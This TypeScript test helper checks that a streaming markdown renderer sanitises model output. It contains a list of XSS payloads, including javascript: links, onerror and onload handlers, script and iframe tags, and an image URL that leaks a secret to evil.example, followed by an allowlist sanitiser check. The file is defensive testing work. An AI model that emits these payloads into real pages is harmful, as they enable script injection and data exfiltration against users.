import { expect } from 'vitest';
import { draw as drawShapes } from '../src/draw';
import { createReader } from '../src/markdown/stream';
import type { Child, Shape } from '../src/shape';

/** Milliseconds of our own work, whatever else the machine is doing. */
export const cpuTime = () => process.cpuUsage().user / 1000;

/** Draws every piece as it comes, and the end when there is no piece. */
export function createPen(root: HTMLElement) {
  const read = createReader();
  return (piece?: string) => drawShapes(root, read(piece));
}

/** Draws text in the given pieces and returns what stands in the document at the end. */
export function draw(...pieces: string[]): HTMLElement {
  const root = document.createElement('div');
  const pen = createPen(root);
  for (const piece of pieces) pen(piece);
  pen();
  return root;
}

/** What a hostile model may say. */
export const hostile = [
  '[a](javascript:alert(1))',
  '[a](JaVaScRiPt:alert(1))',
  '[a]( javascript:alert(1))',
  '[a](java\tscript:alert(1))',
  '[a](java\nscript:alert(1))',
  '[a](\u0001javascript:alert(1))',
  '[a](<javascript:alert(1)>)',
  '[a](&#106;avascript:alert(1))',
  '[a](javascript&colon;alert(1))',
  '[a](data:text/html,<script>alert(1)</script>)',
  '[a](data:text/html;base64,PHNjcmlwdD4=)',
  '[a](vbscript:msgbox(1))',
  '[a](file:///etc/passwd)',
  '[a](blob:https://x.example/1)',
  '[a](ws://x.example)',
  '[a](about:blank)',
  '[a](//evil.example)',
  '[a](https://good.example@evil.example/)',
  '[a](https://x.example" onmouseover="alert(1))',
  "[a](https://x.example' onmouseover='alert(1))",
  '[a](https://x.example "x" onclick="alert(1)")',
  '![a](javascript:alert(1))',
  '![x](https://evil.example/p.png?d=SECRET)',
  '![x](data:image/svg+xml,<svg onload=alert(1)>)',
  '[![x](https://evil.example/p.png)](javascript:alert(1))',
  '<javascript:alert(1)>',
  '<data:text/html,x>',
  '<script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '<svg/onload=alert(1)>',
  '<iframe src="https://evil.example"></iframe>',
  '<a href="javascript:alert(1)">a</a>',
  '<style>*{display:none}</style>',
  '<form action="https://evil.example"><input name=p></form>',
  '```"><img src=x onerror=alert(1)>\nx\n```',
  '```js onload=alert(1)\nx',
  '| <img src=x onerror=alert(1)> |\n|---|\n| [a](javascript:alert(1)) |',
  '> <script>alert(1)</script>',
  '- [a](javascript:alert(1))',
  '# <img src=x onerror=alert(1)>',
  '1. <math><mi xlink:href="javascript:alert(1)">',
  'https://x.example/"onmouseover="alert(1)',
  '`<img src=x onerror=alert(1)>`',
  '[a]: javascript:alert(1)\n[a]',
  '<<script>script>alert(1)<</script>/script>',
  '\\<img src=x onerror=alert(1)>',
  '**<img src=x onerror=alert(1)>**',
];

/** What may stand in a document: each element with its attributes and what these may say. */
const allowed: Record<string, Record<string, RegExp>> = {
  a: {
    href: /^(?:https?:\/\/|mailto:|tel:)\S*$/,
    title: /^(?:https?:\/\/|mailto:|tel:)\S*$/,
    target: /^_blank$/,
    rel: /^noopener noreferrer nofollow ugc$/,
  },
  blockquote: { dir: /^auto$/ },
  br: {},
  button: {},
  code: {},
  div: { class: /^table$/, tabindex: /^0$/, role: /^group$/, 'aria-label': /^Table$/, dir: /^auto$/ },
  em: {},
  figcaption: {},
  figure: { class: /^code$/, dir: /^ltr$/ },
  h3: { dir: /^auto$/ },
  hr: {},
  li: {},
  ol: { start: /^\d{1,9}$/, dir: /^auto$/ },
  p: { dir: /^auto$/ },
  path: { d: /^[\d.,A-Za-z -]+$/ },
  pre: { tabindex: /^0$/, role: /^group$/, 'aria-label': /Code$/ },
  s: {},
  span: { class: /^caret$/, 'aria-hidden': /^true$/ },
  strong: {},
  svg: { viewBox: /^0 0 24 24$/, 'aria-hidden': /^true$/ },
  table: {},
  td: { class: /^n$/ },
  th: { class: /^n$/ },
  tr: {},
  ul: { dir: /^auto$/ },
};

/** Fails if an element is not allowed, or something of it. */
function inspectElement(tag: string, attributes: [name: string, value: unknown][]) {
  const known = allowed[tag];
  if (!known) throw new Error(`${tag} is not allowed`);
  for (const [name, value] of attributes)
    if (typeof value !== 'string' || !known[name]?.test(value)) throw new Error(`${tag} has ${name}: ${value}`);
  if (tag !== 'a') return;
  const { href, title, target, rel } = Object.fromEntries(attributes) as Record<string, string>;
  const read = new URL(href as string);
  if (read.href !== href || read.username || title !== href || !target || !rel) throw new Error(`a link to ${href}`);
}

/** Fails if something stands in the document that is not allowed. */
export function inspect(root: Element) {
  for (const node of root.querySelectorAll('*')) {
    inspectElement(
      node.tagName.toLowerCase(),
      [...node.attributes].map(({ name, value }) => [name, value]),
    );
    expect(node.parentElement?.closest('a') && node.tagName === 'A', 'a link within a link').toBeFalsy();
  }
}

/** The same before it is drawn. Calls `see` for each shape, with those that it stands in. */
export function inspectShapes(children: readonly Child[], see: (shape: Shape, within: Shape[]) => void) {
  function each(child: Child, within: Shape[]) {
    if (typeof child !== 'object') return;
    const told = Object.entries(child.attrs).filter(([, value]) => value);
    inspectElement(child.kind, told);
    if (child.kind === 'a' && within.some(({ kind: tag }) => tag === 'a')) throw new Error('a link within a link');
    see(child, within);
    for (const inner of child.inner) each(inner, [...within, child]);
  }
  for (const child of children) each(child, []);
}
